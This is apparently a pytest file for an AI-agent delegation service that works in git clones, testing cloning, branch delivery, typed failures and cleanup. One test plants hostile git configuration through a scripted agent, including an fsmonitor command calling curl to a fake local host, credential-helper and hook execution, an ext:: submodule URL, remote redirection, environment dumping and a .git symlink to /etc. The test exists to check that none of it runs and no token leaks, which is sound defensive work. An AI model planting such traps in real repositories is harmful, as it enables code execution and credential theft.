"""Runs over git repositories: real git over HTTP, real sandboxes, a scripted model, and agents that set traps."""

from __future__ import annotations

import asyncio
import os
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import aclosing
from pathlib import Path
from typing import Any

import pytest

from deputize.orchestrator.continuation import continued_request, repeated_request
from deputize.orchestrator.delegations import open_service
from deputize.shared.delegation import ToolAgentResult
from deputize.shared.errors import Conflict, Invalid, Unavailable
from deputize.shared.events import Delivered, ErrorSeen, ProgressMade
from deputize.shared.limits import Limits
from deputize.shared.request import DelegationRequest, Deliver
from deputize.shared.settings import Settings
from deputize.worker.fleet.janitor import Janitor, Presence
from deputize.worker.task import carry_out
from tests.network.git_server import TOKEN, USER, GitServer, git, git_server, make_repository
from tests.runs.bench import Bench, call, open_bench, say, script
from tests.shared.git.cloning import everything_below, write_credentials
from tests.waiting import until

FILES = {"app.py": "one\n", "docs/guide.md": "# Guide\n", ".gitignore": "*.log\n"}
EDIT = call("bash", command="echo two >> app.py; printf 'a\\0b' > data.bin; ln -s app.py link; rm docs/guide.md")
APPEND = call("bash", command="echo two >> app.py; echo x > x.log")


@pytest.fixture
def server(tmp_path: Path) -> Iterator[GitServer]:
    with git_server(tmp_path / "served") as server:
        yield server


@pytest.fixture
def source(tmp_path: Path) -> Path:
    return make_repository(tmp_path / "source", FILES, commits=3)


@pytest.fixture
async def bench(server: GitServer, redis_url: str, tmp_path: Path) -> AsyncIterator[Bench]:
    credentials = write_credentials(tmp_path / "credentials", server.host)
    own: dict[str, Any] = {"git_hosts": [server.host], "git_credentials_file": credentials}
    async with open_bench(redis_url, tmp_path / "home", **own) as bench:
        yield bench


async def run(bench: Bench, folder: Path, url: str, *turns: Any, **fields: Any) -> ToolAgentResult:
    model = script(folder, *([turn] for turn in turns), [say("done")])
    fields.setdefault("workspace", {"kind": "git", "url": url})
    return await bench.run(model=model, **fields)


def branches(server: GitServer) -> list[str]:
    return git(server.root / "project.git", "for-each-ref", "--format=%(refname:short)", "refs/heads").split()


async def test_the_agent_works_in_a_clone(bench: Bench, server: GitServer, source: Path, tmp_path: Path) -> None:
    url = server.add(source)
    asked = "git status -sb && git log --oneline && git remote -v && echo two >> app.py && git diff --stat"
    commit = "git -c user.name=a -c user.email=a@b commit -qam mine && git log --format=%s -1; git push 2>&1 | head -1"
    result = await run(bench, tmp_path, url, call("bash", command=asked), call("bash", command=commit))
    assert result.success, result.summary
    seen, committed = await bench.answers(result.delegation_id)
    assert "## main" in seen
    assert "commit 3" in seen
    assert "commit 2" not in seen
    assert "app.py | 1 +" in seen
    assert f"{url} (fetch)" in seen
    assert "mine" in committed
    assert "fatal" in committed
    assert [change.path for change in result.file_changes] == ["app.py"]
    assert result.git is not None
    assert result.git.to_dict() == {
        "base": git(source, "rev-parse", "HEAD"),
        "branch": None,
        "commit": None,
        "pullRequestUrl": None,
    }


async def test_many_runs_over_one_repository_are_one_fetch(
    bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    url = server.add(source)
    results = await asyncio.gather(*(run(bench, tmp_path, url, call("read_file", path="app.py")) for _ in range(10)))
    assert [result.success for result in results] == [True] * 10
    assert server.fetches == 1


@pytest.mark.parametrize(
    ("wrong", "reason", "kind"),
    [
        ({"status": 404}, "refused", "repository_not_found"),
        ({"status": 403}, "refused", "repository_forbidden"),
        ({"status": 401}, "refused", "repository_authentication"),
        ({"status": 500}, "error", "repository_unreachable"),
    ],
)
async def test_failures_are_typed(
    wrong: dict[str, Any], reason: str, kind: str, bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    url = server.add(source)
    for name, value in wrong.items():
        setattr(server, name, value)
    result = await run(bench, tmp_path, url)
    assert (result.status, result.termination_reason, result.git) == ("failed", reason, None)
    assert result.errors[0].startswith(f"{kind}: {url}: ")
    assert [event.kind for event in await bench.seen(result, ErrorSeen)] == [kind]


async def test_a_repository_that_may_come_back_is_tried_again(
    bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    url = server.add(source)
    model = script(tmp_path, [say("done")])
    fields = {"model": model, "workspace": {"kind": "git", "url": url}, "retry": {"attempts": 1}}
    id = await bench.accept(DelegationRequest.model_validate({"task": "do it", **fields}))
    server.status = 500
    await carry_out(bench.services, id)
    assert (await bench.store.get(id)).status == "queued"
    server.status = 404
    await carry_out(bench.services, id)
    assert (await bench.result(id)).errors[-1].startswith("repository_not_found")


async def test_what_is_not_cloned_is_named(bench: Bench, server: GitServer, source: Path, tmp_path: Path) -> None:
    git(source, "update-index", "--add", "--cacheinfo", f"160000,{git(source, 'rev-parse', 'HEAD')},module")
    git(source, "commit", "-q", "-m", "module")
    result = await run(bench, tmp_path, server.add(source))
    assert result.left_out == ["module is a submodule and was not copied"]
    assert (result.truncated, result.file_changes) == (False, [])


async def test_a_clone_is_ended_with_its_run(bench: Bench, server: GitServer, source: Path, tmp_path: Path) -> None:
    url = server.add(source)
    for limit, ended in (
        (None, "Cancelled while the project was set up."),
        (1.0, "Stopped: timeoutSeconds 1 reached while the project was set up."),
    ):
        server.hold, server.held = threading.Event(), threading.Event()
        limits = Limits(timeout_seconds=limit) if limit else Limits()
        request = DelegationRequest.model_validate(
            {"task": "x", "model": script(tmp_path, [say("never")]), "workspace": {"kind": "git", "url": url}}
        ).model_copy(update={"limits": limits})
        id = await bench.accept(request)
        running = asyncio.create_task(carry_out(bench.services, id))
        await until(server.held.is_set)
        if limit is None:
            await bench.store.cancel(id)
        await running
        server.hold.set()
        assert (await bench.result(id)).summary == ended
    assert not [*(bench.settings.workspaces).glob("dlg_*")]


async def test_changes_are_delivered_as_a_branch(bench: Bench, server: GitServer, source: Path, tmp_path: Path) -> None:
    url, base = server.add(source), git(source, "rev-parse", "HEAD")
    server.credentials = (USER, TOKEN)
    result = await run(bench, tmp_path, url, EDIT, deliver={"message": "Add two"})
    assert (result.success, result.errors) == (True, [])
    assert result.git is not None
    assert (result.git.base, result.git.branch) == (base, f"deputize/{result.delegation_id}")
    served = server.root / "project.git"
    commit = git(served, "rev-parse", f"refs/heads/{result.git.branch}")
    assert (commit, git(served, "rev-parse", f"{commit}^")) == (result.git.commit, base)
    assert git(served, "log", "-1", "--format=%an <%ae>%n%B", commit).splitlines() == [
        "deputize <deputize@localhost>",
        "Add two",
        "",
        f"Deputize-Run: {result.delegation_id}",
    ]
    assert git(served, "ls-tree", "-r", "--name-only", commit).split() == [".gitignore", "app.py", "data.bin", "link"]
    assert git(served, "show", f"{commit}:app.py") == "one\ntwo"
    types = [each.event.type for each in await bench.events(result)]
    assert types[-2:] == ["delivered", "run_finished"]
    assert (await bench.store.get(result.delegation_id)).result == result


async def test_no_change_is_no_branch(bench: Bench, server: GitServer, source: Path, tmp_path: Path) -> None:
    result = await run(bench, tmp_path, server.add(source), call("bash", command="touch a.log"), deliver={})
    assert result.git is not None
    assert (result.success, result.git.branch, result.git.commit, branches(server)) == (True, None, None, ["main"])
    said = [event.message for event in await bench.seen(result, ProgressMade)]
    assert "nothing was delivered: no file was changed" in said


async def test_a_delivery_that_fails_changes_no_status(
    bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    result = await run(bench, tmp_path, server.add(source), APPEND, deliver={"branch": "main"})
    assert result.success
    (error,) = result.errors
    assert error.startswith("delivery_branch: ")
    assert f"`deputize deliver {result.delegation_id}`" in error
    assert [event.kind for event in await bench.seen(result, ErrorSeen)] == ["delivery_branch"]
    assert await bench.seen(result, Delivered) == []
    assert "+two" in await bench.store.patch(result.delegation_id)


async def test_a_run_that_did_not_complete_delivers_nothing_by_itself(
    bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    limits = Limits(max_turns=1)
    result = await run(bench, tmp_path, server.add(source), APPEND, APPEND, deliver={}, limits=limits)
    assert (result.termination_reason, branches(server)) == ("max_turns", ["main"])
    assert result.git is not None


async def test_a_secret_is_not_delivered(bench: Bench, server: GitServer, source: Path, tmp_path: Path) -> None:
    planted = call("write_file", path="leak.txt", content=f"token {TOKEN}\n")
    result = await run(bench, tmp_path, server.add(source), planted, deliver={})
    assert branches(server) == ["main"]
    assert "masked" in result.errors[0]


TRAPS = """
exec 2>/dev/null
git config core.fsmonitor "touch /workspace/ran-fsmonitor; curl {fake}"
git config diff.external "touch /workspace/ran-diff"
git config filter.evil.clean "touch /workspace/ran-filter"; git config filter.evil.smudge "touch /workspace/ran-filter"
git config core.hooksPath /workspace/hooks; git config include.path /workspace/included
git config remote.origin.url {fake}; git config remote.origin.pushurl {fake}
git config url.{fake}.insteadOf {url}; git config credential.helper "!touch /workspace/ran-helper"
printf '[core]\\n\\tfsmonitor = touch /workspace/ran-include\\n' > included
mkdir -p hooks; for hook in pre-push post-checkout reference-transaction pre-commit; do
printf '#!/bin/sh\\ntouch /workspace/ran-hook\\n' > hooks/$hook; chmod +x hooks/$hook; done
cp -r hooks .git/; echo two >> app.py
printf '* filter=evil diff=evil\\n*.bin filter=lfs diff=lfs merge=lfs\\n' > .gitattributes
printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:%064d\\nsize 9\\n' 0 > large.bin
printf '[lfs]\\n\\turl = {fake}\\n' > .lfsconfig
git config lfs.url {fake}; git config filter.lfs.process "touch /workspace/ran-lfs"
printf '[submodule "m"]\\n\\tpath = m\\n\\turl = ext::touch /workspace/ran-module\\n' > .gitmodules
printf '[submodule "n"]\\n\\tpath = n\\n\\turl = {fake}\\n' >> .gitmodules
mkdir -p .git/objects/info; echo /etc > .git/objects/info/alternates; echo {fake} > .git/FETCH_HEAD
"""
TURN_OVER = "mv .git .git-real; ln -s /etc .git; echo three >> app.py"


async def test_nothing_that_an_agent_plants_runs_and_no_token_leaves(
    bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    url = server.add(source)
    server.credentials = (USER, TOKEN)
    heard: list[bytes] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.read(1000))
        writer.close()

    async with await asyncio.start_server(hear, "127.0.0.1", 0) as fake:
        address = f"http://127.0.0.1:{fake.sockets[0].getsockname()[1]}/fake.git"
        look = "env; cat /proc/*/environ /proc/*/cmdline; cat .git/config; cat .git/*HEAD*"
        traps = call("bash", command=TRAPS.format(fake=address, url=url))
        turns = [call("bash", command=look), traps, call("bash", command=TURN_OVER)]
        check = {"kind": "command", "run": "grep -q three app.py && ! ls ran-*"}
        result = await run(bench, tmp_path, url, *turns, deliver={}, verify=[check])
        assert [error.partition(":")[0] for error in result.errors] == ["delivery_workflow"]
        assert branches(server) == ["main"]
        async with opened(bench.settings) as service:  # and once more, in the service's process
            with pytest.raises(Conflict, match=r"may execute \.gitmodules"):
                await service.deliver(result.delegation_id)
            await service.deliver(result.delegation_id, Deliver(workflows=True))
            again = await service.deliver(result.delegation_id)
    result = await bench.result(result.delegation_id)
    assert result.success, result.summary
    assert heard == []
    assert result.verification.verdict == "passed"  # a search proves no more
    assert result.git is not None
    assert result.git.commit is not None
    assert again.result == result
    assert git(server.root / "project.git", "show", f"{result.git.commit}:app.py") == "one\ntwo\nthree"
    files = bench.settings.workspaces / result.delegation_id / "files"
    assert [path.name for path in files.glob("ran-*")] == []
    written = "".join(each.to_json() for each in await bench.events(result))
    for token in (TOKEN, *bench.settings.secrets):
        assert token not in written + result.to_json()
        assert token.encode() not in everything_below(bench.settings.workspaces)


def opened(settings: Settings) -> Any:
    return open_service(settings, str(settings.redis_url))


async def test_delegations_that_go_on_deliver_the_changes_of_all(
    bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    url, base = server.add(source), git(source, "rev-parse", "HEAD")
    first = await run(bench, tmp_path, url, APPEND)
    git(source, "commit", "-q", "--allow-empty", "-m", "later")
    git(source, "push", "-q", str(server.root / "project.git"), "main")
    earlier = await bench.store.get(first.delegation_id)
    request = continued_request(earlier, "go on").model_copy(update={"deliver": Deliver(branch="both")})
    id = await bench.accept(request)
    await carry_out(bench.services, id)
    second = await bench.result(id)
    assert second.git is not None
    assert (second.git.base, second.git.branch) == (base, "both")
    assert git(server.root / "project.git", "show", "both:app.py").startswith("one\ntwo")
    again = await bench.accept(repeated_request(earlier))
    await carry_out(bench.services, again)
    third = await bench.result(again)
    assert third.git is not None
    assert third.git.base == git(source, "rev-parse", "main")  # it began anew


async def test_a_lost_answer_of_the_worker_makes_no_second_branch(
    bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    """The attempt is ended while its push waits for its answer, and the next one finds what it had pushed."""
    server.hold, server.hold_push = threading.Event(), "after"
    model = script(tmp_path, [APPEND], [say("done")])
    fields = {"model": model, "workspace": {"kind": "git", "url": server.add(source)}, "deliver": {"branch": "one"}}
    id = await bench.accept(DelegationRequest.model_validate({"task": "do it", **fields}))
    await bench.interrupt(id, server.held.is_set)
    server.hold.set()
    await carry_out(bench.services, id)
    result = await bench.result(id)
    assert result.git is not None
    assert (result.success, branches(server)) == (True, ["main", "one"])
    assert git(server.root / "project.git", "rev-parse", "one") == result.git.commit
    types = [each.event.type for each in await bench.events(id)]
    assert (types.count("delivered"), types.count("run_finished")) == (1, 1)


async def test_a_run_is_delivered_afterwards(bench: Bench, server: GitServer, source: Path, tmp_path: Path) -> None:
    result = await run(bench, tmp_path, server.add(source), APPEND)
    elsewhere = bench.settings.model_copy(update={"workspace_root": tmp_path / "elsewhere"})
    async with opened(elsewhere) as service:
        done = await service.deliver(result.delegation_id, Deliver(branch="late", message="Late"))
        again = await service.deliver(result.delegation_id, Deliver(branch="late"))
        with pytest.raises(Conflict, match="delivered as the branch late"):
            await service.deliver(result.delegation_id, Deliver(branch="another"))
    assert (done.to_dict()["result"]["git"]["branch"], again) == ("late", done)
    assert git(server.root / "project.git", "log", "-1", "--format=%s", "late") == "Late"
    assert branches(server) == ["late", "main"]


async def test_what_the_worker_delivered_is_the_same_commit_afterwards(
    bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    url = server.add(source)
    result = await run(bench, tmp_path, url, APPEND, deliver={"branch": "one"})
    delegation = await bench.store.get(result.delegation_id)
    assert result.git is not None
    forgotten = result.model_copy(update={"git": result.git.model_copy(update={"commit": None, "branch": None})})
    await bench.store.redis.hset(f"deputize:run:{{{delegation.id}}}", "result", forgotten.to_json())
    async with opened(bench.settings) as service:
        done = await service.deliver(delegation.id)
    assert done.result == result


async def test_what_cannot_be_delivered_is_a_conflict(
    bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    url = server.add(source)
    nothing = await run(bench, tmp_path, url)
    other = await bench.run(model=script(tmp_path, [say("done")]))
    work = await run(bench, tmp_path, url, APPEND)
    failed = await run(bench, tmp_path, url, workspace={"kind": "git", "url": url, "ref": "gone"})
    waiting = await bench.accept(DelegationRequest(task="x"))
    async with opened(bench.settings) as service:
        for id, wanted, why in (
            (nothing.delegation_id, None, "no file was changed"),
            (other.delegation_id, None, "did not work on a git repository"),
            (failed.delegation_id, None, "never cloned its repository"),
            (waiting, None, "when it has ended"),
            (work.delegation_id, Deliver(branch="main"), "delivery_branch"),
        ):
            with pytest.raises(Conflict, match=why):
                await service.deliver(id, wanted)
        with pytest.raises(Invalid, match="not the name of a branch"):
            await service.deliver(work.delegation_id, Deliver(branch="a..b"))
        server.status = 503
        with pytest.raises(Unavailable, match="repository_unreachable"):
            await service.deliver(work.delegation_id)
    assert branches(server) == ["main"]


async def test_a_record_that_is_gone_meanwhile_is_not_made_again(bench: Bench) -> None:
    from deputize.orchestrator.delivery import note_delivered
    from deputize.shared.facts import GitFacts

    await note_delivered(bench.store.redis, "dlg_gone", GitFacts(base="a" * 40))
    assert not await bench.store.redis.exists("deputize:run:{dlg_gone}")


async def test_clones_go_when_no_run_was_copied_from_them(
    bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    await run(bench, tmp_path, server.add(source))
    (place,) = bench.settings.repositories.iterdir()
    (clone,) = (place / "clones").iterdir()
    presence = Presence(bench.store, bench.bus, "eye")
    janitor = Janitor(bench.settings, bench.store, bench.bus, presence, bench.sent.extend)
    await janitor.sweep(older_than=0)
    assert clone.exists()
    os.utime(clone, (1, 1))
    await janitor.sweep(older_than=0)
    assert (clone.exists(), place.exists()) == (False, True)
    os.utime(place, (1, 1))
    await janitor.sweep(older_than=0)
    assert not place.exists()
    assert (await run(bench, tmp_path, server.url())).success


async def test_the_events_of_a_delivery_can_be_followed(
    bench: Bench, server: GitServer, source: Path, tmp_path: Path
) -> None:
    result = await run(bench, tmp_path, server.add(source), APPEND, deliver={"branch": "one"})
    async with opened(bench.settings) as service, aclosing(service.follow(result.delegation_id)) as events:
        seen = [envelope.event async for envelope in events]
    (event,) = [event for event in seen if isinstance(event, Delivered)]
    assert event.git == result.git
